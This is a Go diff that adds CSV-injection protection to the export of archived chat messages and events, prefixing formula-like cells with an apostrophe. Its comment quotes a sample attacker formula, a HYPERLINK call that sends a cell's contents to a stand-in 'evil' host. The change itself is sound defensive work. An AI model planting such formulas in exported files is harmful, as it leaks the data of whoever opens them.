@@ -180,16 +180,45 @@ func writeMessagesCSV(w io.Writer, msgs []Message) error {
 			return err
 		}
 		rawB64, _ := strconv.Unquote(string(raw))
-		if err := cw.Write([]string{
+		if err := cw.Write(spreadsheetSafe([]string{
 			m.ID, m.Account, m.Client, m.Conv, strconv.FormatUint(m.Seq, 10), m.Direction, m.Kind, m.WxMsgID, m.Event, m.EventKey,
 			m.Text, m.MediaID, string(attrs), rawB64, m.CreatedAt, m.AcceptedAt, m.Employee, m.Hash, m.BatchID,
 			m.MediaFile, m.MediaSHA256,
-		}); err != nil {
+		})); err != nil {
 			return err
 		}
 	}
 	cw.Flush()
 	return cw.Error()
+}
+
+// spreadsheetSafe neutralises cells a spreadsheet program would run as
+// a formula (CSV injection: a client who writes
+// =HYPERLINK("https://evil/?"&A2,"…") must not get a live link, or a
+// formula, into the compliance officer's Excel). A cell beginning with
+// = + - @, a tab or a carriage return gets a leading apostrophe, which
+// spreadsheets take as "text follows"; plain numbers such as errcode -1
+// are left alone. The CSV files are for reading; messages.jsonl and the
+// transcript keep every text exactly as archived. cells is changed in
+// place and returned.
+func spreadsheetSafe(cells []string) []string {
+	for i, c := range cells {
+		if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) || isNumber(c) {
+			continue
+		}
+		cells[i] = "'" + c
+	}
+	return cells
+}
+
+// isNumber reports whether s is an optionally negative decimal number.
+func isNumber(s string) bool {
+	s = strings.TrimPrefix(s, "-")
+	whole, frac, dot := strings.Cut(s, ".")
+	digits := func(t string) bool {
+		return t != "" && strings.Trim(t, "0123456789") == ""
+	}
+	return digits(whole) && (!dot || digits(frac))
 }
 
 func writeEventsCSV(w io.Writer, evs []Event) error {
@@ -198,7 +227,7 @@ func writeEventsCSV(w io.Writer, evs []Event) error {
 		return err
 	}
 	for _, e := range evs {
-		if err := cw.Write([]string{e.ID, e.MessageID, e.Account, e.Conv, e.State, strconv.Itoa(e.ErrCode), e.ErrMsg, e.At, e.Hash, e.BatchID}); err != nil {
+		if err := cw.Write(spreadsheetSafe([]string{e.ID, e.MessageID, e.Account, e.Conv, e.State, strconv.Itoa(e.ErrCode), e.ErrMsg, e.At, e.Hash, e.BatchID})); err != nil {
 			return err
 		}
 	}
